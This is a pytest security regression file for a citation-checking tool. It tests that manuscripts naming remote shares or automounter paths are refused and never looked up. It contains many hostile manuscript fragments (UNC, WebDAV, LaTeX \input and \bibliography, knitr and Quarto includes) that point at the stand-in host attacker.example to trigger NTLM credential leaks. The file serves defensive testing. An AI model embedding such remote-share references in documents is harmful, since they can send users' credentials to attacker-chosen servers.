"""Red team rt38s: a manuscript's name for a file on another machine is never looked up.

Without ``--confine`` the command line follows the names a manuscript gives wherever
they point -- the author's own files. A name that opens with two separators is no
file of the author's disk: on Windows ``//host/share/x`` and ``\\\\host\\share\\x`` are
a share, ``\\\\host@SSL\\x`` WebDAV over HTTPS and ``\\\\?\\UNC\\host\\x`` the same
share spelt for the kernel. Asking whether such a name is a file makes Windows connect
to that host and answer its login challenge with the user's NTLM credentials: an
editor checking a submission with ``citeaudit check paper.md`` sent them to a server
the submission chose, before "not found" came back (the classic UNC leak of documents
that name remote templates). ``--confine`` refused these names as absolute; the plain
command line looked every one up.

This machine is not Windows, so the test watches the look-ups themselves: the standard
library's ``os`` functions a look-up goes through are wrapped to note their names (as
tests/security/test_rt34f_lookups_outside.py does), and no name naming the stand-in
host may reach them. POSIX reads ``//host`` as ``/host``: before the fix each of these
names was ``stat``-ed there, and read if it existed. The finding names the file and
says it is not looked up, whatever answers there.
"""

from __future__ import annotations

import json
import os
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest

from citeaudit import input_scope
from tests.in_process_cli import run_cli

HOST = "attacker.example"
LATEX = "\\documentclass{article}\n\\begin{document}\nAs shown \\cite{a}.\n%s\n\\end{document}\n"
REFS = "@article{a, author={Okafor, N.}, title={A}, journal={J}, year={2018}}\n"
# (file name, its text, the file beside it): each names the share one way a reader reads
SHAPES: dict[str, tuple[str, str]] = {
    "front matter, slashes": (
        "paper.md",
        f"---\nbibliography: //{HOST}/s/refs.bib\n---\nAs shown [@a].\n",
    ),
    "front matter, backslashes": (
        "paper.md",
        f"---\nbibliography: '\\\\{HOST}\\s\\refs.bib'\n---\nAs shown [@a].\n",
    ),
    "front matter, WebDAV": (
        "paper.md",
        f"---\nbibliography: '\\\\{HOST}@SSL\\DavWWWRoot\\refs.bib'\n---\nAs shown [@a].\n",
    ),
    "front matter, kernel spelling": (
        "paper.md",
        f"---\nbibliography: '\\\\?\\UNC\\{HOST}\\s\\refs.bib'\n---\nAs shown [@a].\n",
    ),
    "front matter, object manager spelling": (
        "paper.md",
        f"---\nbibliography: '\\??\\UNC\\{HOST}\\s\\refs.bib'\n---\nAs shown [@a].\n",
    ),
    "front matter, list item": (
        "paper.md",
        f"---\nbibliography:\n  - refs.bib\n  - //{HOST}/s/more.bib\n---\nAs shown [@a].\n",
    ),
    "knitr here::here": (
        "paper.Rmd",
        f"---\nbibliography: \"`r here::here('//{HOST}/s/refs.bib')`\"\n---\nAs shown [@a].\n",
    ),
    "knitr child": (
        "paper.Rmd",
        f"As shown [@a].\n\n```{{r child='//{HOST}/s/c.Rmd'}}\n```\n",
    ),
    "quarto include": (
        "paper.qmd",
        f"As shown [@a].\n\n{{{{< include //{HOST}/s/c.qmd >}}}}\n",
    ),
    "latex input": ("main.tex", LATEX % f"\\input{{//{HOST}/s/chapter}}\n\\bibliography{{refs}}"),
    "latex include": ("main.tex", LATEX % f"\\include{{//{HOST}/s/ch}}\n\\bibliography{{refs}}"),
    "latex import": (
        "main.tex",
        LATEX % f"\\import{{//{HOST}/s/}}{{chap}}\n\\bibliography{{refs}}",
    ),
    "latex subimport": (
        "main.tex",
        LATEX % f"\\subimport{{//{HOST}/s/}}{{chap}}\n\\bibliography{{refs}}",
    ),
    "latex inputfrom": (
        "main.tex",
        LATEX % f"\\inputfrom{{\\\\{HOST}\\s\\}}{{chap}}\n\\bibliography{{refs}}",
    ),
    "latex includefrom": (
        "main.tex",
        LATEX % f"\\includefrom{{//{HOST}/s/}}{{chap}}\n\\bibliography{{refs}}",
    ),
    "latex bibliography": ("main.tex", LATEX % f"\\bibliography{{refs,//{HOST}/s/refs}}"),
    "biblatex resource": (
        "main.tex",
        LATEX.replace(
            "\\begin{document}",
            f"\\addbibresource{{//{HOST}/s/refs.bib}}\n"
            "\\addbibresource{refs.bib}\n\\begin{document}",
        )
        % "\\printbibliography",
    ),
}


@pytest.fixture
def lookups(monkeypatch: pytest.MonkeyPatch) -> Iterator[list[str]]:
    """The names every look-up, listing and open of the run was asked for."""
    asked: list[str] = []

    def noting(original: Callable[..., Any]) -> Callable[..., Any]:
        def wrapper(path: Any, *args: Any, **kwargs: Any) -> Any:
            if isinstance(path, str | bytes | os.PathLike):
                asked.append(os.fsdecode(os.fspath(path)))
            return original(path, *args, **kwargs)

        return wrapper

    for name in ("stat", "lstat", "open", "scandir", "listdir", "access", "readlink", "mkdir"):
        monkeypatch.setattr(os, name, noting(getattr(os, name)))
    yield asked


@pytest.mark.parametrize("shape", SHAPES)
def test_a_share_a_manuscript_names_is_not_looked_up(
    shape: str, tmp_path: Path, lookups: list[str]
) -> None:
    name, text = SHAPES[shape]
    (tmp_path / name).write_text(text, encoding="utf-8")
    (tmp_path / "refs.bib").write_text(REFS, encoding="utf-8")
    ran = run_cli({}, "check", "--offline", "--format", "json", name, cwd=tmp_path)
    assert ran.returncode in (0, 1, 2), ran.stderr
    assert [n for n in lookups if HOST in n] == []
    assert any(n.endswith("refs.bib") or n.endswith(name) for n in lookups)  # watched
    shown = ran.stdout + ran.stderr
    if ran.stdout.strip():
        messages = [f["message"] for f in json.loads(ran.stdout)["findings"]]
        shown = "\n".join(messages) + ran.stderr
    assert "names a file on another machine" in shown, shown


def test_the_share_is_refused_alike_whether_anything_answers_there(tmp_path: Path) -> None:
    """POSIX reads ``//host/s/x`` as ``/host/s/x``: a name that exists there is not read
    either -- the stand-in is a folder of the test's (``//<tmp>/...``), holding a .bib."""
    there = tmp_path / "share"
    there.mkdir()
    (there / "refs.bib").write_text(REFS.replace("{a,", "{SHARED,"), encoding="utf-8")
    folder = tmp_path / "paper"
    folder.mkdir()
    (folder / "refs.bib").write_text(REFS, encoding="utf-8")
    (folder / "paper.md").write_text(
        f"---\nbibliography: [refs.bib, '/{there}/refs.bib']\n---\nAs shown [@a].\n",
        encoding="utf-8",
    )
    ran = run_cli({}, "check", "--offline", "--format", "json", "paper.md", cwd=folder)
    report = json.loads(ran.stdout)
    assert [r["key"] for r in report["references"]] == ["a"]
    assert "SHARED" not in ran.stdout
    assert any("names a file on another machine" in f["message"] for f in report["findings"])


def test_a_name_beside_the_manuscript_is_still_read(tmp_path: Path) -> None:
    """The control: the author's own names (relative, absolute on this disk) are read."""
    (tmp_path / "refs.bib").write_text(REFS, encoding="utf-8")
    (tmp_path / "paper.md").write_text(
        f"---\nbibliography: [refs.bib, {tmp_path}/refs.bib]\n---\nAs shown [@a].\n",
        encoding="utf-8",
    )
    ran = run_cli({}, "check", "--offline", "--format", "json", "paper.md", cwd=tmp_path)
    report = json.loads(ran.stdout)
    assert [r["key"] for r in report["references"]] == ["a"]
    assert not any("another machine" in f["message"] for f in report["findings"])


# -- the automounter's hosts maps (macOS's /net, autofs's -hosts, auto.net, auto.smb) ---


def _host_map(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A stand-in for /net: a folder listing one host already mounted (``mounted``,
    holding a .bib), as a map's folder lists its mounted hosts and nothing else."""
    net = tmp_path / "net"
    (net / "mounted").mkdir(parents=True)
    (net / "mounted" / "refs.bib").write_text(REFS, encoding="utf-8")
    monkeypatch.setattr(input_scope, "HOST_MAPS", (str(net),))
    return net


@pytest.mark.parametrize(
    "written",
    [
        "{net}/{host}/export/refs.bib",
        "{net}/mounted/../{host}/export/refs.bib",
        "../net/{host}/export/refs.bib",
        "l/{host}/export/refs.bib",
        "m/export/refs.bib",
    ],
)
def test_a_host_the_automounter_would_mount_is_not_looked_up(
    written: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, lookups: list[str]
) -> None:
    """``/net/<host>/x``: looking it up mounts that host's exports (its name resolved,
    an NFS or SMB session opened). A host not mounted now is not looked up, however
    the name reaches the map (``..``, a link to the map or to a host under it)."""
    net = _host_map(tmp_path, monkeypatch)
    folder = tmp_path / "paper"
    folder.mkdir()
    (folder / "refs.bib").write_text(REFS, encoding="utf-8")
    (folder / "l").symlink_to(net)  # a project's link to the map (``l -> /net``)
    (folder / "m").symlink_to(f"../net/{HOST}")  # and to a host under it
    name = written.format(net=net, host=HOST)
    (folder / "paper.md").write_text(
        f"---\nbibliography: [refs.bib, '{name}']\n---\nAs shown [@a].\n", encoding="utf-8"
    )
    ran = run_cli({}, "check", "--offline", "--format", "json", "paper.md", cwd=folder)
    assert [n for n in lookups if HOST in n] == []
    messages = [f["message"] for f in json.loads(ran.stdout)["findings"]]
    assert any("names a file on another machine" in m for m in messages), messages


def test_a_host_mounted_now_is_read(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """The control: a host the map lists (mounted by the author's own use) is read."""
    net = _host_map(tmp_path, monkeypatch)
    (tmp_path / "paper.md").write_text(
        f"---\nbibliography: {net}/mounted/refs.bib\n---\nAs shown [@a].\n", encoding="utf-8"
    )
    ran = run_cli({}, "check", "--offline", "--format", "json", "paper.md", cwd=tmp_path)
    report = json.loads(ran.stdout)
    assert [r["key"] for r in report["references"]] == ["a"]


def test_a_manuscript_given_on_a_share_reads_its_own_chapters_there(tmp_path: Path) -> None:
    """The share a given file lies on is the author's (a manuscript kept in a network
    home folder, checked from elsewhere): its chapters and bibliography there are read,
    while a share the manuscript names itself is still refused. POSIX reads the
    stand-in ``//<tmp>/paper/main.tex`` as the folder it is; Windows as a share."""
    folder = tmp_path / "paper"
    folder.mkdir()
    (folder / "refs.bib").write_text(REFS + REFS.replace("{a,", "{b,"), encoding="utf-8")
    (folder / "ch1.tex").write_text("Also \\cite{b}.\n", encoding="utf-8")
    body = f"\\input{{ch1}}\n\\import{{//{HOST}/s/}}{{chap}}\n\\bibliography{{refs}}"
    (folder / "main.tex").write_text(LATEX % body, encoding="utf-8")
    given = "/" + str(folder / "main.tex")  # "//tmp/...": a share's spelling
    ran = run_cli({}, "check", "--offline", "--format", "json", given, cwd=tmp_path)
    report = json.loads(ran.stdout)
    messages = [f["message"] for f in report["findings"]]
    assert sorted(r["key"] for r in report["references"]) == ["a", "b"], messages
    assert not any("never cited" in m for m in messages), messages  # ch1 read: b cited
    refused = [m for m in messages if "names a file on another machine" in m]
    assert len(refused) == 1 and "chap" in refused[0], messages
